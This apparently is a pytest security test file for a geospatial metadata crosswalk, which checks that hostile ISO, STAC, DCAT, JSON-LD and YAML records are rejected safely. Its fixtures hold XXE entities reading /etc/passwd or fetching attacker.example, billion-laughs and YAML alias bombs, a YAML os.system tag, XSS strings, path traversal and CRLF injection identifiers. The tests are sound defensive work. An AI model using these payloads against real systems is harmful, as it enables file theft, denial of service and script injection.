"""Files that are made to do harm: each becomes a harmless record or a clear problem, at once and without a call to anybody."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path

import orjson
import pytest

from kg.crosswalk import values
from kg.crosswalk.geometry import declared_crs, from_geojson, from_literal, from_wkt, latitude_first, positions
from kg.harvest.media_type import media_type_of
from kg.model import Native
from kg.processing import Processed
from kg.text.characters import repaired, tidy
from kg.text.plain import plain_text

GOLDEN = Path(__file__).parents[1] / "golden"
Check = Callable[[Native], Processed]
Harvest = Callable[..., list[Native]]

pytestmark = pytest.mark.usefixtures("no_network")

GMD = (
    '<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd" xmlns:gco="http://www.isotc211.org/2005/gco"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:gml="http://www.opengis.net/gml">'
)


def iso(identifier: str = "one", title: str = "A title", inside: str = "", extent: str = "") -> bytes:
    """A short ISO 19139 record."""
    return (
        f"{GMD}<gmd:fileIdentifier><gco:CharacterString>{identifier}</gco:CharacterString></gmd:fileIdentifier>"
        "<gmd:identificationInfo><gmd:MD_DataIdentification><gmd:citation><gmd:CI_Citation>"
        f"<gmd:title><gco:CharacterString>{title}</gco:CharacterString></gmd:title></gmd:CI_Citation></gmd:citation>"
        f"<gmd:abstract><gco:CharacterString>{title}</gco:CharacterString></gmd:abstract>{inside}"
        f"<gmd:extent><gmd:EX_Extent>{extent}</gmd:EX_Extent></gmd:extent>"
        "</gmd:MD_DataIdentification></gmd:identificationInfo></gmd:MD_Metadata>"
    ).encode()


def stac(**given: object) -> bytes:
    """A short STAC collection."""
    extent = {"spatial": {"bbox": [[0, 40, 10, 50]]}, "temporal": {"interval": [["2020-01-01T00:00:00Z", None]]}}
    whole = {"type": "Collection", "stac_version": "1.0.0", "id": "one", "title": "A", "description": "A", "license": "CC-BY-4.0"}
    return orjson.dumps(whole | {"extent": extent, "links": []} | given)


TTL = "@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .\n"


def dcat(properties: str, before: str = "") -> bytes:
    """A short DCAT record."""
    return f'{TTL}{before}<https://example.org/one> a dcat:Dataset ; dct:title "A"@en ; dct:identifier "one" {properties} .\n'.encode()


BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    "<!ENTITY " + name + ' "' + f"&{before};" * 10 + '">' for before, name in zip("abcdefghij", "bcdefghijk", strict=True)
)

XML = {
    "entity bomb": (BILLION + "]>").encode() + iso(title="&k;"),
    "quadratic entity": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>' + iso(title="&a;" * 1000),
    "external entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + iso(title="&a;"),
    "external entity of the web": b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://attacker.example/">]>' + iso(title="&a;"),
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/"> %a;]>' + iso(),
    "undeclared entity": iso(title="&a;"),
    "deep": b"<a>" * 200_000,
    "deep and closed": b"<a>" * 20_000 + b"</a>" * 20_000,
    "an encoding that does not exist": b'<?xml version="1.0" encoding="x-none"?>' + iso(),
    "an encoding that it is not in": b'<?xml version="1.0" encoding="utf-16"?>' + iso(title="é"),
    "two encodings": iso(title="X").replace(b"X", "é".encode() + "é".encode("latin-1")),
    "a NUL": iso(title="a\0b"),
    "a NUL as a reference": iso(title="a&#0;b"),
    "a surrogate as a reference": iso(title="a&#xD800;b"),
    "a huge attribute": b'<a b="' + b"x" * 12_000_000 + b'"/>',
    "many attributes": ("<a " + " ".join(f"a{number}=''" for number in range(50_000)) + "/>").encode(),
    "many namespaces": ("<a " + " ".join(f"xmlns:a{number}='urn:{number}'" for number in range(20_000)) + "/>").encode(),
}


@pytest.mark.parametrize("name", XML)
def test_xml_that_attacks_is_a_problem(name: str, check: Check, natives: Harvest) -> None:
    started = time.process_time()
    found = [check(each) for each in natives(XML[name])]
    assert found and all(done.record is None and done.problems for done in found)
    assert time.process_time() - started < 5


def test_external_document_types_and_xinclude_are_not_followed(check: Check, natives: Harvest) -> None:
    typed = b'<!DOCTYPE gmd:MD_Metadata SYSTEM "http://attacker.example/x.dtd">' + iso()
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    sheet = b'<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>' + iso()
    for body in (typed, iso(title=include), sheet):
        for each in natives(body):
            done = check(each)
            assert done.record is not None and b"root:" not in done.record.triples


@pytest.mark.parametrize("opening", ["[", '{"a":', '{"type": "Collection", "links": [[', "- ", "a: {b: [", "[[[{"])
@pytest.mark.parametrize("media_type", ["application/json", "application/ld+json", "application/yaml"])
def test_what_is_nested_deeply_is_a_problem(opening: str, media_type: str, check: Check, natives: Harvest) -> None:
    for each in natives((opening * 100_000).encode(), "a.json", media_type):
        assert check(each).record is None


def test_json_that_is_nested_as_deeply_as_parsers_allow(check: Check, natives: Harvest) -> None:
    for key in ("title", "license", "extent", "providers", "summaries", "assets", "keywords"):
        for one, end in (("[", "]"), ('{"a":', "}"), ('{"value":[', "]}")):
            depth = 1000 // (1 + one.count("["))
            value = one * min(depth, 490) + "1" + end * min(depth, 490)
            body = stac().replace(b'"links":[]', f'"links":[],"{key}":{value}'.encode())
            for each in natives(body, "a.json"):
                check(each)


@pytest.mark.parametrize(
    ("one", "end"), [('{"type":"GeometryCollection","geometries":[', "]}"), ('{"type":"Feature","geometry":', "}"), ("[", "]")]
)
@pytest.mark.parametrize("before", ["", '{"type":"Polygon","coordinates":'])
def test_geometries_nested_as_deeply_as_parsers_allow(before: str, one: str, end: str, check: Check, natives: Harvest) -> None:
    depth = 490 if "[" in one and "{" in one else 980
    value = before + one * depth + "1" + end * depth + ("}" if before else "")
    item = '{"type":"Feature","stac_version":"1.0.0","id":"one","properties":{"datetime":"2020-01-01T00:00:00Z"},"links":[],"assets":{},'
    item += '"geometry":'
    (native,) = natives((item + value + "}").encode(), "a.json")
    done = check(native)
    assert done.record is not None and "place.invalid" in {each.code for each in done.problems}


TURTLE = {
    "a collection in collections": dcat("; dcat:keyword " + "(" * 50_000 + ")" * 50_000),
    "blank nodes in blank nodes": dcat("; dct:spatial " + "[ dct:spatial " * 50_000 + "[]" + "]" * 50_000),
    "a long list": dcat("; dcat:keyword (" + " ".join(f"'{number}'" for number in range(20_000)) + ")"),
    "a list without end": dcat("; dcat:keyword _:a . _:a <http://www.w3.org/1999/02/22-rdf-syntax-ns#rest> _:a"),
    "many prefixes": dcat("", "".join(f"@prefix p{number}: <https://example.org/{number}> .\n" for number in range(20_000))),
    "a long text": dcat('; dct:description "' + "a b " * 3_000_000 + '"'),
    "language tags that are none": dcat('; dct:description "a"@xx-notalanguagetag-at-all, "b"@123'),
    "lone surrogates": dcat('; dct:description "\\uD800"'),
    "an IRI with line ends": dcat("; dcat:landingPage <http://example.org/\\u000d\\u000aLink:a>"),
    "an IRI of a script": dcat("; dcat:landingPage <javascript:alert(1)> ; dct:license <data:text/html,a> ; dct:relation <vbscript:a>"),
    "types in a ring": dcat("; dct:isPartOf <https://example.org/one> ; dct:hasPart <https://example.org/one>"),
}


@pytest.mark.parametrize("name", TURTLE)
def test_turtle_that_attacks_does_nothing(name: str, check: Check, natives: Harvest) -> None:
    started = time.process_time()
    for each in natives(TURTLE[name], "a.ttl"):
        check(each)
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "context",
    ['"http://attacker.example/context"', '["https://schema.org/", "http://attacker.example/context"]'],
)
def test_contexts_are_not_fetched(context: str, check: Check, natives: Harvest) -> None:
    body = f'{{"@context": {context}, "@type": "Dataset", "@id": "https://example.org/one", "name": "A"}}'.encode()
    (native,) = natives(body, "a.jsonld")
    done = check(native)
    assert done.record is None and done.problems[0].code == "jsonld.remote-context"


def test_imports_of_contexts_are_not_fetched(check: Check, natives: Harvest) -> None:
    for context in (
        '{"@import": "http://attacker.example/c", "@version": 1.1}',
        '{"a": {"@id": "urn:a", "@context": "http://attacker.example/c"}}',
    ):
        for each in natives(f'{{"@context": {context}, "@type": "https://schema.org/Dataset", "a": {{"b": 1}}}}'.encode(), "a.jsonld"):
            assert check(each).problems


def test_aliases_of_yaml_do_not_multiply(check: Check, natives: Harvest) -> None:
    bomb = "mcf:\n  version: 1.0\na0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
    bomb += "".join(f"a{n + 1}: &a{n + 1} [{','.join([f'*a{n}'] * 10)}]\n" for n in range(12))
    for body in (bomb, "mcf: &a\n  version: *a\n", "mcf: !!python/object/apply:os.system ['true']\n", "mcf: {? [a] : b}\n"):
        for each in natives(body.encode(), "a.yml"):
            assert check(each).record is None


def _one_of_each_syntax() -> list[Path]:
    found = {path.suffix: path for path in sorted(GOLDEN.glob("*/*/in.*"), key=lambda each: each.stat().st_size)}
    return list(found.values())


@pytest.mark.parametrize("path", _one_of_each_syntax(), ids=lambda path: path.suffix)
def test_a_file_that_breaks_off_anywhere(path: Path, check: Check, natives: Harvest) -> None:
    body = path.read_bytes()
    for part in range(20):
        for each in natives(body[: len(body) * part // 20], path.name):
            check(each)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7", "latin-1", "cp037"])
@pytest.mark.parametrize("path", _one_of_each_syntax(), ids=lambda path: path.suffix)
def test_a_file_in_another_encoding(path: Path, encoding: str, check: Check, natives: Harvest) -> None:
    body = path.read_text("utf-8").encode(encoding, "replace")
    for each in natives(body, path.name):
        check(each)
    for each in natives(body, path.name, "application/xml"):
        check(each)


DATES = [
    "9999-99-99",
    "0000",
    "2020-13",
    "2021-02-29",
    "0000-00-00",
    "10000-01-01",
    "-0044-03-15",
    "2020-01-01T24:00:01Z",
    "٢٠٢٠-٠١-٠١",
    "２０２０",
]
DATES += ["2020-01-01T00:00:00+99:99", "2020-01-01T00:00:00+0160", "2020+99:99", "20200230", "1" * 5000]


@pytest.mark.parametrize("text", DATES)
def test_a_date_that_is_none_is_a_problem_and_no_date(text: str, check: Check, natives: Harvest) -> None:
    for body in (iso(extent=_period(text)), stac(extent={"spatial": {"bbox": []}, "temporal": {"interval": [[text, text]]}})):
        done = check(natives(body, "a")[0])
        assert done.record is not None
        assert not re.search(rb"#startDate> \"[^\"]*\"\^\^", done.record.triples), "it is stated as a date"
        assert "date.invalid" in {each.code for each in done.problems}


def _period(text: str) -> str:
    return (
        '<gmd:temporalElement><gmd:EX_TemporalExtent><gmd:extent><gml:TimePeriod xmlns:gml="http://www.opengis.net/gml">'
        f"<gml:beginPosition>{text}</gml:beginPosition><gml:endPosition>{text}</gml:endPosition>"
        "</gml:TimePeriod></gmd:extent></gmd:EX_TemporalExtent></gmd:temporalElement>"
    )


BOXES = [["10", "50", "0", "40"], ["NaN", "0", "1", "1"], ["1e400", "0", "1", "1"], ["-1e39", "0", "1e39", "1"], ["0", "-900", "1", "900"]]
BOXES += [["Infinity", "0", "1", "1"], ["0" * 5000, "0", "1", "1"], ["361", "0", "720", "1"], ["1e-300", "0", "1", "1"]]


@pytest.mark.parametrize("edges", BOXES, ids=lambda edges: edges[0][:10])
def test_a_box_that_is_none_is_told(edges: list[str], check: Check, natives: Harvest) -> None:
    names = ("westBoundLongitude", "southBoundLatitude", "eastBoundLongitude", "northBoundLatitude")
    inner = "".join(f"<gmd:{name}><gco:Decimal>{edge}</gco:Decimal></gmd:{name}>" for name, edge in zip(names, edges, strict=True))
    place = f"<gmd:geographicElement><gmd:EX_GeographicBoundingBox>{inner}</gmd:EX_GeographicBoundingBox></gmd:geographicElement>"
    done = check(natives(iso(extent=place), "a")[0])
    if edges[0] not in ("0" * 5000, "1e-300"):
        assert any("place" in each.code or "box" in each.code or "location" in each.code for each in done.problems)


@pytest.mark.parametrize(
    "text", ["Polygon ((0 0, 1 1, 1 0, 0 1, 0 0))", "POLYGON ((0 0, 1 1", "POINT (a b)", "POINT", "MULTIPOLYGON EMPTY", "X" * 200_000]
)
def test_geometries_that_are_none(text: str, check: Check, natives: Harvest) -> None:
    check(natives(dcat(f'; dct:spatial [ <http://www.w3.org/ns/locn#geometry> "{text}" ]'), "a.ttl")[0])


def test_a_polygon_with_a_million_positions(check: Check, natives: Harvest) -> None:
    ring = [[(number % 1000) / 10, (number // 1000) / 20] for number in range(1_000_000)]
    body = orjson.dumps(
        {
            "type": "Feature",
            "stac_version": "1.0.0",
            "id": "one",
            "properties": {"datetime": "2020-01-01T00:00:00Z"},
            "links": [],
            "assets": {},
        }
        | {"geometry": {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}}
    )
    started = time.process_time()
    done = check(natives(body, "a.json")[0])
    assert done.record is not None and len(done.record.triples) < 2_000_000
    assert time.process_time() - started < 30


IDENTIFIERS = [
    "../../etc/passwd",
    "/etc/passwd",
    "..",
    ".",
    "%2e%2e%2f",
    "a%2Fb",
    "a/b",
    "a\nb",
    "x" * 10_000,
    "\u202egpj.exe",
    "ﬁ",
    "A\u030a",
    "a#b",
    "a?b",
]
IDENTIFIERS += [
    "a%0d%0aLink: b",
    "CON",
    "<b>",
    '"',
    "é" * 500,
    "\u2028",
    "a\\b",
    "http://[x",
    "jane.doe@secret.example",
    "urn:x:jane.doe@secret.example",
]


@pytest.mark.parametrize("identifier", IDENTIFIERS, ids=lambda text: ascii(text)[:20])
def test_an_identifier_is_one_segment_of_an_iri(identifier: str, check: Check, natives: Harvest) -> None:
    done = check(natives(stac(id=identifier), "a.json")[0])
    if done.record is None:  # an identifier of blanks is none
        assert not identifier.strip()
        return
    segment = done.record.iri.removeprefix("https://w3id.org/dataterra/record/hostile/")
    assert re.fullmatch(r"[A-Za-z0-9_.~%-]{1,200}", segment) and segment.strip(".") and len(done.record.dataset) < 400


SCRIPTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;"]


@pytest.mark.parametrize("script", SCRIPTS)
def test_scripts_in_texts_are_no_texts(script: str, check: Check, natives: Harvest) -> None:
    body = stac(title=f"A{script}B", description=f"A{script}B", providers=[{"name": script, "url": "javascript:alert(1)"}])
    done = check(natives(body, "a.json")[0])
    assert done.record is not None
    for line in done.record.triples.decode().splitlines():
        if "/title>" in line or "/description>" in line:
            assert "<script" not in line.partition("> ")[2].partition("> ")[2] and "onerror" not in line


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:a",
        "JAVA\tSCRIPT:a",
        "\x01javascript:a",
        "file:///etc/passwd",
    ],
)
def test_addresses_that_are_carried_out_are_left_out(url: str, check: Check, natives: Harvest) -> None:
    link = {"rel": "about", "href": url, "type": "text/html"}
    asset = {"data": {"href": url, "roles": ["data"]}}
    done = check(natives(stac(links=[link], assets=asset, license=url, providers=[{"name": "A", "url": url}]), "a.json")[0])
    assert done.record is not None and "iri.invalid" in {each.code for each in done.problems}


MANY = 20_000
QUADRATIC = {
    "keywords": lambda: stac(keywords=[f"word {number}" for number in range(MANY)]),
    "the same keyword": lambda: stac(keywords=["word"] * MANY),
    "links": lambda: stac(links=[{"rel": "about", "href": f"https://example.org/{number}", "title": "A"} for number in range(MANY)]),
    "assets": lambda: stac(assets={f"a{number}": {"href": f"https://example.org/{number}", "title": "A"} for number in range(MANY)}),
    "boxes": lambda: stac(
        extent={
            "spatial": {"bbox": [[number % 180, 0, number % 180 + 1, number % 90] for number in range(MANY)]},
            "temporal": {"interval": []},
        }
    ),
    "intervals": lambda: stac(
        extent={"spatial": {"bbox": []}, "temporal": {"interval": [[f"20{number % 100:02}-01-01", f"x{number}"] for number in range(MANY)]}}
    ),
    "providers": lambda: stac(providers=[{"name": f"A {number}", "roles": ["host", "producer"]} for number in range(MANY)]),
    "bad addresses": lambda: stac(links=[{"rel": "about", "href": f"http s {number}"} for number in range(MANY)]),
    "keywords of ISO": lambda: iso(inside=_keywords()),
    "boxes of ISO": lambda: iso(extent=_iso_boxes()),
    "distributions of DCAT": lambda: dcat(
        "".join(f"; dcat:distribution [ dcat:accessURL <https://example.org/{n}> ]" for n in range(MANY))
    ),
    "keywords of DCAT": lambda: dcat("".join(f'; dcat:keyword "word {number}"@en' for number in range(MANY))),
}


def _keywords() -> str:
    one = "<gmd:keyword><gco:CharacterString>word {}</gco:CharacterString></gmd:keyword>"
    return f"<gmd:descriptiveKeywords><gmd:MD_Keywords>{''.join(map(one.format, range(MANY)))}</gmd:MD_Keywords></gmd:descriptiveKeywords>"


def _iso_boxes() -> str:
    one = "<gmd:geographicElement><gmd:EX_GeographicBoundingBox>{}</gmd:EX_GeographicBoundingBox></gmd:geographicElement>"
    edge = "<gmd:{0}><gco:Decimal>{1}</gco:Decimal></gmd:{0}>"
    names = ("westBoundLongitude", "southBoundLatitude", "eastBoundLongitude", "northBoundLatitude")
    return "".join(one.format("".join(edge.format(name, n % 80 + place) for place, name in enumerate(names))) for n in range(MANY))


@pytest.mark.parametrize("name", QUADRATIC)
def test_many_of_one_kind_take_time_in_proportion(name: str, processor: object, natives: Harvest) -> None:
    (native,) = natives(QUADRATIC[name](), "a.ttl" if "DCAT" in name else "a.json" if "ISO" not in name else "a.xml")
    started = time.process_time()
    outcome = processor.mapper.map(native)  # type: ignore[attr-defined]
    assert outcome.record is not None
    assert time.process_time() - started < 20


LONG = 200_000
RUNS = [
    " ",
    "<",
    ".",
    "1",
    "(",
    "a",
    "a.",
    "1.",
    "1,",
    "a@",
    "@a",
    "&amp;",
    "<a ",
    "<a href='",
    "10.1234/",
    "P1",
    "- ",
    "\n",
    "\t\n",
    "http://",
    "%",
    "<!--",
    "<i>",
    "&#",
    "-",
    "é",
    "a ",
    "1 ",
    "T0",
]
READERS: dict[str, Callable[[str], object]] = {
    "date": values.parse_date,
    "number": values.parse_decimal,
    "bytes": values.parse_bytes,
    "metres": values.parse_metres,
    "duration": values.parse_duration,
    "DOI": values.parse_doi,
    "ORCID": values.parse_orcid,
    "ROR": values.parse_ror,
    "IRI": values.parse_iri,
    "line": values.clean_line,
    "text": values.clean_text,
    "plain": plain_text,
    "tidy": tidy,
    "repaired": repaired,
    "WKT": from_wkt,
    "geometry": from_literal,
    "GeoJSON": from_geojson,
    "crs": declared_crs,
    "axes": latitude_first,
    "positions": positions,
    "media type": lambda text: media_type_of(text.encode(), "a"),
}


@pytest.mark.parametrize("reader", READERS)
def test_no_text_makes_a_reader_slow(reader: str) -> None:
    starts = ("", "P", "10.1234/", "http://", "<http://x> ", "POLYGON ((", "<gml:Point srsName=", "a@", "<a href=", "1 ")
    for run in RUNS:
        for start in starts if reader not in ("repaired",) else ("",):
            text = (start + run * (LONG // len(run)))[:LONG] + "!"
            started = time.process_time()
            READERS[reader](text)
            taken = time.process_time() - started
            assert taken < 2, f"{reader} takes {taken:.1f} s for {start!r} and many {run!r}"


@pytest.mark.parametrize("run", [" ", "<", ".", "1", "(", "a.", "a@", "<a ", "&amp;", "10.1234/", "é", "- ", "http://", "; ", "> "])
def test_no_text_makes_a_crosswalk_slow(run: str, check: Check, natives: Harvest) -> None:
    """One text of each sample replaced after the other, by a run that makes regular expressions look back."""
    text = (run * (LONG // len(run)))[:LONG] + "!"
    given = {"title": text, "description": text, "keywords": [text], "license": text, "providers": [{"name": text, "url": text}]}
    given |= {"links": [{"rel": "about", "href": text, "title": text, "type": text}], "sci:doi": text, "sci:citation": text}
    given |= {"extent": {"spatial": {"bbox": [[text] * 4]}, "temporal": {"interval": [[text, text]]}}}
    started = time.process_time()
    check(natives(stac(**given), "a.json")[0])
    assert time.process_time() - started < 10


def test_no_mailbox_of_a_person_is_published(check: Check, natives: Harvest) -> None:
    mailbox = "Jane Doe <jane.doe@secret.example>"
    thesaurus = f"<gmd:thesaurusName><gmd:CI_Citation><gmd:title><gco:CharacterString>{mailbox.replace('<', '(').replace('>', ')')}"
    thesaurus += "</gco:CharacterString></gmd:title></gmd:CI_Citation></gmd:thesaurusName>"
    keywords = f"<gmd:keyword><gco:CharacterString>word</gco:CharacterString></gmd:keyword>{thesaurus}"
    inside = f"<gmd:descriptiveKeywords><gmd:MD_Keywords>{keywords}</gmd:MD_Keywords></gmd:descriptiveKeywords>"
    check(natives(iso(inside=inside), "a.xml")[0])
    link = {"rel": "about", "href": "https://example.org/a", "title": mailbox, "type": mailbox}
    given = {"title": mailbox, "description": mailbox, "keywords": [mailbox], "license": mailbox, "providers": [{"name": mailbox}]}
    given |= {"links": [link], "assets": {"a": link}, "sci:citation": mailbox, "id": mailbox, "summaries": {"platform": [mailbox]}}
    check(natives(stac(**given), "a.json")[0])


LINKS = {
    "https://example.org/ask?to=jane.doe@secret.example&about=sst": "https://example.org/ask?about=sst",
    "https://example.org/ask?jane.doe%40secret.example": "https://example.org/ask",
    "https://example.org/ask?to=jane.doe%2540secret.example#top": "https://example.org/ask#top",
    "ftp://jane.doe:password@ftp.example.org/sst": "ftp://ftp.example.org/sst",
    "https://jane.doe@secret.example/sst": "https://secret.example/sst",
    "https://example.org/people/jane.doe@secret.example": None,
    "https://example.org/people#jane.doe@secret.example": None,
    "https://example.org/ask?to=data@example.org": "https://example.org/ask?to=data@example.org",
    "https://example.org/@scope/map@2x.png": "https://example.org/@scope/map@2x.png",
}


@pytest.mark.parametrize("url", LINKS)
def test_no_link_carries_the_mailbox_of_a_person(url: str, check: Check, natives: Harvest) -> None:
    given = {
        "links": [{"rel": "about", "href": url}],
        "assets": {"a": {"href": url, "roles": ["data"]}},
        "providers": [{"name": "A", "url": url}],
    }
    done = check(natives(stac(**given), "a.json")[0])
    assert done.record is not None
    assert ("iri.mailbox" in {each.code for each in done.problems}) == (LINKS[url] != url)
    text, kept = done.record.triples.decode(), LINKS[url]
    assert f"<{kept}>" in text if kept else "/people" not in text


@pytest.mark.parametrize("text", ["\ufffe", "\uffff", "\x00", "\x1b[31m", "\x7f", "\u202e"])
def test_characters_that_xml_refuses_are_left_out_of_xml_in_json(text: str, check: Check, natives: Harvest) -> None:
    path = next(GOLDEN.glob("iso19115-3-json/*/in.json"))
    body = (
        path.read_bytes()
        .replace(b'"#text":"', b'"#text":' + orjson.dumps(text)[:-1])
        .replace(b'"#text": "', b'"#text": ' + orjson.dumps(text)[:-1])
    )
    assert body != path.read_bytes()
    assert check(natives(body, "in.json")[0]).record is not None


def test_letters_that_look_like_units_and_digits_are_none() -> None:
    assert values.parse_duration("5 \u017f") is values.parse_duration("\u0665 days") is None
    assert values.parse_orcid("\u0660000-0002-1825-0097") is None
